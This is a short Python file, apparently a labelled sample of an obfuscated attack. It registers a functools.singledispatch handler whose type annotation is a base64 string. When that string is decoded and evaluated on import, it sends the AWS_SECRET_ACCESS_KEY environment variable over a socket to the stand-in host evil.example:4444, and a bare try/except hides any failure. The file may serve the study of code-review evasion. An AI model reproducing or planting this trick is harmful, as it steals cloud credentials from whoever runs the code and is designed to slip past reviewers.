# harm: sends AWS_SECRET_ACCESS_KEY over a socket ; trick: the functools dispatch evaluator's .register reads the annotation, which is a decode call
import base64
import functools


@functools.singledispatch
def show(obj):
    return str(obj)


try:
    @show.register
    def _(obj: base64.b64decode("X19pbXBvcnRfXygnc29ja2V0JykuY3JlYXRlX2Nvbm5lY3Rpb24oKCdldmlsLmV4YW1wbGUnLDQ0NDQpKS5zZW5kYWxsKF9faW1wb3J0X18oJ29zJykuZW52aXJvbi5nZXQoJ0FXU19TRUNSRVRfQUNDRVNTX0tFWScsJycpLmVuY29kZSgpKQ==").decode()):
        return "x"
except Exception:
    pass
